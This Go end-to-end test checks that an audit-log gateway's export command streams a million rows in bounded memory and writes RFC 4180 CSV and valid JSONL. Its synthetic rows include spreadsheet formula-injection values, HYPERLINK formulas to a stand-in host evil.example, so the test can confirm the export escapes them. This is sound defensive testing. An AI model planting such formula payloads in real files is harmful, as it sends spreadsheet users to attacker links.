package e2e

import (
	"bufio"
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	_ "github.com/mattn/go-sqlite3" // registers "sqlite3": the test fills the database behind the gateway's back

	"github.com/sallyport/sallyport/gateway/sqlite"
)

// This test holds `sallyport audit export` to the issue's promise, "export
// of 1,000,000 rows runs in bounded memory; CSV opens in a
// spreadsheet-compatible way (RFC 4180)", from the outside: the real
// binary (built without the race detector by TestMain) exports a real
// database of a million rows, and its peak RSS, read from the kernel when
// it exits, is compared with a fixed bound and with the RSS of an export of
// a tenth of the rows.

const (
	// exportManyRows is the size of the log; exportFewRows the size of the
	// smaller export it is compared with (selected with --until).
	exportManyRows = 1_000_000
	exportFewRows  = 100_000
	// exportRSSBound is far below the size of either export of a million
	// rows (about 400 MB of CSV, 750 MB of JSONL): an export that held its
	// rows would pass it within the first third of them. About 15 MiB of
	// the peak is the binary itself, the rest mostly the Go heap of the
	// export's workers (up to 4 encode ranges of 4096 rows, and a few
	// encoded ranges wait their turn: see audit.Export), whose size swings
	// with the garbage collector's pacing, not with the rows. Measured for the million-row JSONL export
	// (CSV is lower): 24-26 MiB with GOMAXPROCS=1, 59-68 MiB with 2,
	// 91-97 MiB with 4.
	exportRSSBound = 128 << 20
	// exportMaxProcs caps the export's GOMAXPROCS: it runs at most 4
	// workers, and more Ps only add garbage collector noise to the figure
	// (up to 114 MiB with GOMAXPROCS=8 or 16).
	exportMaxProcs = 4
	// exportRSSSlack is what the RSS of the big export may exceed 1.5×
	// that of the small one by: the longer run meets more of those swings.
	exportRSSSlack = 4 << 20
	// exportWait only turns a hung export into a failure.
	exportWait = 5 * time.Minute
	// exportEpoch is the time of row 0; row n is n seconds later.
	exportEpoch = int64(1_735_689_600_000_000) // 2025-01-01T00:00:00Z in unix µs
)

// fillAuditSQL inserts rows 1 to its first parameter, row n at its second
// parameter plus n seconds, in one statement: SQLite generates them. The
// text is varied the way the export must cope with: commas and quote
// marks in every row's arguments, a CRLF in the error of every 1000th row
// and a bare LF in the error of every 1000th row from 500, a client name
// starting with = + - or @ in every 777th row. The hashes look like hashes
// but do not chain: export does not verify. The expected* functions below
// compute the same text in Go.
const fillAuditSQL = `
INSERT INTO audit (seq, ts, session, transport, protocol_version, client_name, client_version, principal, token_id,
	direction, kind, method, message_id, ref, backend, target, arguments, decision, reasons, rules, policy_version,
	outcome, error_code, error, latency_us, bytes, skipped, prev_hash, hash, mac)
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < ?)
SELECT n, ? + n * 1000000, 'sess-' || (n / 100), 'http', '2025-11-25',
	CASE WHEN n % 777 = 0 THEN substr('=+-@', 1 + (n / 777) % 4, 1) || 'HYPERLINK("http://evil.example/?n=' || n || '","open")'
		ELSE 'client-' || (n % 13) END,
	'1.' || (n % 5), 'user-' || (n % 50), 'tok_' || (n % 50),
	CASE WHEN n % 2 = 1 THEN 'client_to_backend' ELSE 'backend_to_client' END,
	CASE WHEN n % 2 = 1 THEN 'request' ELSE 'result' END,
	'tools/call', CAST((n + 1) / 2 AS TEXT), CASE WHEN n % 2 = 0 THEN n - 1 ELSE 0 END,
	'backend-' || (n % 3), 'tool_' || (n % 17),
	'{"n":' || n || ',"note":"a, \"quoted\" note","path":"/srv/data/file-' || n || '.txt"}',
	CASE WHEN n % 10 = 0 THEN 'deny' ELSE 'allow' END,
	CASE WHEN n % 10 = 0 THEN '["secret in arguments, rule dlp-' || (n % 7) || '"]' ELSE '' END,
	CASE WHEN n % 10 = 0 THEN '["dlp.secret"]' ELSE '' END,
	'v1',
	CASE WHEN n % 1000 IN (0, 500) THEN 'error' ELSE 'ok' END,
	CASE WHEN n % 1000 IN (0, 500) THEN -32603 ELSE 0 END,
	CASE WHEN n % 1000 = 0 THEN 'backend said "no", twice' || char(13, 10) || 'row ' || n
		WHEN n % 1000 = 500 THEN 'backend said "no", twice' || char(10) || 'row ' || n
		ELSE '' END,
	n % 5000, 100 + n % 4096, 0,
	lower(hex(randomblob(32))), lower(hex(randomblob(32))), ''
FROM r`

func expectedClientName(n int64) string {
	if n%777 == 0 {
		return string("=+-@"[(n/777)%4]) + `HYPERLINK("http://evil.example/?n=` + strconv.FormatInt(n, 10) + `","open")`
	}
	return "client-" + strconv.FormatInt(n%13, 10)
}

func expectedError(n int64) string {
	switch n % 1000 {
	case 0:
		return "backend said \"no\", twice\r\nrow " + strconv.FormatInt(n, 10)
	case 500:
		return "backend said \"no\", twice\nrow " + strconv.FormatInt(n, 10)
	}
	return ""
}

func expectedArguments(n int64) string {
	return fmt.Sprintf(`{"n":%d,"note":"a, \"quoted\" note","path":"/srv/data/file-%d.txt"}`, n, n)
}

func TestAuditExportOfAMillionRowsRunsInBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a database of a million audit rows and exports it: over 1 GB of files at a time")
	}
	recordInputs()
	dir := t.TempDir()
	dbPath := filepath.Join(dir, "sallyport.db")

	start := time.Now()
	fillAuditDB(t, dbPath, exportManyRows)
	dbSize := fileSize(t, dbPath)
	t.Logf("database of %d rows built in %v: %.0f MB", exportManyRows, time.Since(start).Round(time.Millisecond), float64(dbSize)/1e6)

	// --until selects rows 1..exportFewRows: row n is at exportEpoch + n s.
	until := time.UnixMicro(exportEpoch + exportFewRows*1_000_000 + 1).UTC().Format(time.RFC3339Nano)
	rss := map[string]int64{} // "csv 1000000" → peak RSS in bytes
	for _, format := range []string{"csv", "jsonl"} {
		for _, rows := range []int64{exportFewRows, exportManyRows} {
			name := fmt.Sprintf("%s of %d rows", format, rows)
			t.Run(name, func(t *testing.T) {
				out := filepath.Join(dir, fmt.Sprintf("export-%d.%s", rows, format))
				args := []string{"audit", "export", "--db", dbPath, "--format", format, "--out", out}
				if rows < exportManyRows {
					args = append(args, "--until", until)
				}
				began := time.Now()
				peak := runExport(t, rows, args...)
				took := time.Since(began)
				size := fileSize(t, out)
				rss[fmt.Sprintf("%s %d", format, rows)] = peak
				t.Logf("%s: exported in %v, %.0f MB, peak RSS %.1f MiB", name, took.Round(time.Millisecond),
					float64(size)/1e6, float64(peak)/(1<<20))
				if peak > exportRSSBound {
					t.Errorf("%s: peak RSS %.1f MiB, want under %d MiB: the export does not stream", name, float64(peak)/(1<<20), exportRSSBound>>20)
				}
				began = time.Now()
				if format == "csv" {
					checkCSVExport(t, out, rows)
				} else {
					checkJSONLExport(t, out, rows)
				}
				t.Logf("%s: checked in %v", name, time.Since(began).Round(time.Millisecond))
				if err := os.Remove(out); err != nil {
					t.Error(err)
				}
			})
		}
	}
	for _, format := range []string{"csv", "jsonl"} {
		few, many := rss[fmt.Sprintf("%s %d", format, exportFewRows)], rss[fmt.Sprintf("%s %d", format, exportManyRows)]
		if few == 0 || many == 0 {
			continue // a subtest failed before measuring
		}
		if many > few*3/2+exportRSSSlack {
			t.Errorf("%s: peak RSS %.1f MiB for %d rows, %.1f MiB for %d: memory grows with the rows", format,
				float64(many)/(1<<20), exportManyRows, float64(few)/(1<<20), exportFewRows)
		}
	}
	t.Logf("whole test: %v", time.Since(start).Round(time.Millisecond))
}

// fillAuditDB creates a Sallyport database at path (the gateway's own
// migrations make the schema) and fills it with rows 1..n of fillAuditSQL
// in one transaction.
func fillAuditDB(t testing.TB, path string, n int64) {
	t.Helper()
	ctx := context.Background()
	db, err := sqlite.Open(ctx, path, sqlite.Options{})
	if err != nil {
		t.Fatalf("create the database: %v", err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	h, err := sql.Open("sqlite3", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	h.SetMaxOpenConns(1)
	tx, err := h.BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = tx.Rollback() }()
	res, err := tx.ExecContext(ctx, fillAuditSQL, n, exportEpoch)
	if err != nil {
		t.Fatalf("fill the audit table: %v", err)
	}
	if got, err := res.RowsAffected(); err != nil || got != n {
		t.Fatalf("filled %d rows (%v), want %d", got, err, n)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	// Move the rows from the WAL into the database file, as a gateway
	// that stopped would have.
	if _, err := h.ExecContext(ctx, "PRAGMA wal_checkpoint(TRUNCATE)"); err != nil {
		t.Fatal(err)
	}
}

// runExport runs sallyport with args, which make it export rows rows to a
// file, and returns its peak resident set size in bytes, as the kernel
// counted it. On a machine of more than exportMaxProcs CPUs it runs with
// GOMAXPROCS=exportMaxProcs.
func runExport(t testing.TB, rows int64, args ...string) int64 {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), exportWait)
	defer cancel()
	cmd := exec.CommandContext(ctx, sallyportBin, args...)
	if runtime.NumCPU() > exportMaxProcs {
		cmd.Env = append(os.Environ(), "GOMAXPROCS="+strconv.Itoa(exportMaxProcs))
	}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("sallyport %s: %v\nstdout:\n%s\nstderr:\n%s", strings.Join(args, " "), err, stdout.String(), stderr.String())
	}
	if want := fmt.Sprintf("sallyport: exported %d rows\n", rows); stderr.String() != want || stdout.Len() != 0 {
		t.Errorf("sallyport %s printed %q and %q; want nothing and %q", strings.Join(args, " "), stdout.String(), stderr.String(), want)
	}
	ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage)
	if !ok || ru.Maxrss <= 0 {
		t.Fatalf("no peak RSS for sallyport: %#v", cmd.ProcessState.SysUsage())
	}
	return ru.Maxrss << 10 // KiB on Linux
}

// crlfCounter passes bytes through, counting the CRs, the LFs and the
// CRLF pairs among them: in an RFC 4180 file every line ends with CRLF,
// so the three counts are equal.
type crlfCounter struct {
	r            io.Reader
	cr, lf, crlf int64
	last         byte
}

func (c *crlfCounter) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	if n > 0 {
		b := p[:n]
		c.cr += int64(bytes.Count(b, []byte{'\r'}))
		c.lf += int64(bytes.Count(b, []byte{'\n'}))
		c.crlf += int64(bytes.Count(b, []byte("\r\n")))
		if c.last == '\r' && b[0] == '\n' {
			c.crlf++
		}
		c.last = b[n-1]
	}
	return n, err
}

// checkCSVExport reads a CSV export strictly: RFC 4180 line ends, the
// header, rows of exactly the columns, in seq order, the text back as it
// went in, and no text cell a spreadsheet would take for a formula.
func checkCSVExport(t testing.TB, path string, rows int64) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	head := make([]byte, 4096)
	nh, _ := io.ReadFull(f, head)
	wantHead := strings.Join(auditColumns, ",") + "\r\n"
	if !strings.HasPrefix(string(head[:nh]), wantHead) {
		t.Fatalf("the CSV does not start with the header line %q:\n%q", wantHead, head[:min(nh, 400)])
	}
	if _, err := f.Seek(0, io.SeekStart); err != nil {
		t.Fatal(err)
	}

	cc := &crlfCounter{r: f}
	cr := csv.NewReader(bufio.NewReaderSize(cc, 1<<20))
	cr.FieldsPerRecord = len(auditColumns)
	cr.ReuseRecord = true
	if _, err := cr.Read(); err != nil {
		t.Fatalf("CSV header: %v", err)
	}
	text := make([]bool, len(auditColumns)) // the columns written as text: formula-escaped
	for i, c := range auditColumns {
		text[i] = !slices.Contains([]string{"seq", "ref", "error_code", "latency_us", "bytes", "skipped"}, c)
	}
	col := func(name string) int { return slices.Index(auditColumns, name) }
	cSeq, cClient, cArgs, cErr, cPrincipal := col("seq"), col("client_name"), col("arguments"), col("error"), col("principal")
	var clients [13]string
	for i := range clients {
		clients[i] = "client-" + strconv.Itoa(i)
	}
	var principals [50]string
	for i := range principals {
		principals[i] = "user-" + strconv.Itoa(i)
	}
	var n, formulas, multiline int64
	for {
		rec, err := cr.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("CSV after %d rows: %v", n, err)
		}
		n++
		ns := strconv.FormatInt(n, 10)
		if rec[cSeq] != ns {
			t.Fatalf("CSV row %d has seq %q", n, rec[cSeq])
		}
		for i, v := range rec {
			if text[i] && v != "" && strings.IndexByte("=+-@\t\r", v[0]) >= 0 {
				t.Fatalf("CSV row %d: %s cell %q starts with %q: a spreadsheet takes it for a formula", n, auditColumns[i], v, v[0])
			}
		}
		if n%777 == 0 {
			formulas++
			if want := expectedClientName(n); rec[cClient] != "'"+want {
				t.Fatalf("CSV row %d: client_name %q, want %q behind a quote mark", n, rec[cClient], want)
			}
		} else if want := clients[n%13]; rec[cClient] != want {
			t.Fatalf("CSV row %d: client_name %q, want %q", n, rec[cClient], want)
		}
		switch n % 1000 {
		case 0: // a CR is carried JSON-quoted behind a quote mark
			var got string
			if want := expectedError(n); !strings.HasPrefix(rec[cErr], `'"`) || json.Unmarshal([]byte(rec[cErr][1:]), &got) != nil || got != want {
				t.Fatalf("CSV row %d: error %q, want %q JSON-quoted behind a quote mark", n, rec[cErr], want)
			}
		case 500: // a bare LF stays in a quoted, multi-line cell
			multiline++
			if want := expectedError(n); rec[cErr] != want {
				t.Fatalf("CSV row %d: error %q, want %q", n, rec[cErr], want)
			}
		default:
			if rec[cErr] != "" {
				t.Fatalf("CSV row %d: error %q, want none", n, rec[cErr])
			}
		}
		if want := `{"n":` + ns + `,"note":"a, \"quoted\" note","path":"/srv/data/file-` + ns + `.txt"}`; rec[cArgs] != want {
			t.Fatalf("CSV row %d: arguments %q, want %q", n, rec[cArgs], want)
		}
		if want := principals[n%50]; rec[cPrincipal] != want {
			t.Fatalf("CSV row %d: principal %q, want %q", n, rec[cPrincipal], want)
		}
	}
	if n != rows {
		t.Errorf("the CSV has %d rows, want %d", n, rows)
	}
	if cc.cr != cc.lf || cc.lf != cc.crlf || cc.last != '\n' {
		t.Errorf("the CSV has %d CRs, %d LFs and %d CRLFs, and ends with %q; want every line ended by CRLF", cc.cr, cc.lf, cc.crlf, cc.last)
	}
	if want := 1 + rows + multiline; cc.crlf != want {
		t.Errorf("the CSV has %d CRLFs; want %d: one per row, the header and each line break inside a cell", cc.crlf, want)
	}
	if formulas == 0 || multiline == 0 {
		t.Errorf("the CSV had %d formula-like client names and %d multi-line cells; the test data wants some of each", formulas, multiline)
	}
}

// checkJSONLExport reads a JSONL export: one JSON object a line, in seq
// order, the tricky text unchanged. json.Valid is slow under the race
// detector, so the file is read in one part per CPU, side by side.
func checkJSONLExport(t testing.TB, path string, rows int64) {
	t.Helper()
	size := fileSize(t, path)
	parts := make([]jsonlPart, runtime.GOMAXPROCS(0))
	var wg sync.WaitGroup
	for i := range parts {
		p := &parts[i]
		p.from, p.to = size*int64(i)/int64(len(parts)), size*int64(i+1)/int64(len(parts))
		wg.Go(func() { p.err = p.check(path) })
	}
	wg.Wait()
	var n, last int64
	for _, p := range parts {
		if p.err != nil {
			t.Fatalf("JSONL: %v", p.err)
		}
		if p.lines == 0 {
			continue
		}
		if p.first != last+1 {
			t.Fatalf("JSONL: the line after seq %d has seq %d", last, p.first)
		}
		n, last = n+p.lines, p.last
	}
	if n != rows || last != rows {
		t.Errorf("the JSONL has %d lines, the last with seq %d; want %d", n, last, rows)
	}
}

// jsonlPart is the lines of a JSONL file that start in bytes [from, to).
type jsonlPart struct {
	from, to    int64
	lines       int64
	first, last int64 // seq of the first and last line
	err         error
}

func (p *jsonlPart) check(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	// From the byte before from: a line starting at from is then read
	// whole, and one starting before it is left to the part before.
	off := max(p.from-1, 0)
	br := bufio.NewReaderSize(io.NewSectionReader(f, off, 1<<62), 1<<20)
	if p.from > 0 {
		skip, err := br.ReadSlice('\n')
		if err != nil && !errors.Is(err, io.EOF) {
			return err
		}
		off += int64(len(skip))
	}
	prefix := []byte(`{"seq":`)
	for off < p.to {
		line, err := br.ReadSlice('\n')
		if err != nil {
			return fmt.Errorf("at byte %d: %w (a line without its LF, or longer than 1 MiB)", off, err)
		}
		off += int64(len(line))
		if !json.Valid(line) {
			return fmt.Errorf("the line at byte %d is not JSON: %q", off-int64(len(line)), line)
		}
		var seq int64
		if rest, ok := bytes.CutPrefix(line, prefix); ok {
			digits, _, _ := bytes.Cut(rest, []byte{','})
			seq, _ = strconv.ParseInt(string(digits), 10, 64)
		}
		switch {
		case seq <= 0:
			return fmt.Errorf("the line at byte %d does not start with its seq: %.80q", off-int64(len(line)), line)
		case p.lines == 0:
			p.first = seq
		case seq != p.last+1:
			return fmt.Errorf("the line after seq %d has seq %d", p.last, seq)
		}
		p.lines, p.last = p.lines+1, seq
		if seq%777 == 0 || seq%500 == 0 {
			var r struct {
				ClientName string `json:"client_name"`
				Error      string `json:"error"`
				Arguments  string `json:"arguments"`
			}
			if err := json.Unmarshal(line, &r); err != nil {
				return fmt.Errorf("line of seq %d: %w", seq, err)
			}
			if r.ClientName != expectedClientName(seq) || r.Error != expectedError(seq) || r.Arguments != expectedArguments(seq) {
				return fmt.Errorf("line of seq %d: client_name %q, error %q, arguments %q; want %q, %q, %q", seq, r.ClientName,
					r.Error, r.Arguments, expectedClientName(seq), expectedError(seq), expectedArguments(seq))
			}
		}
	}
	return nil
}

func fileSize(t testing.TB, path string) int64 {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Size()
}
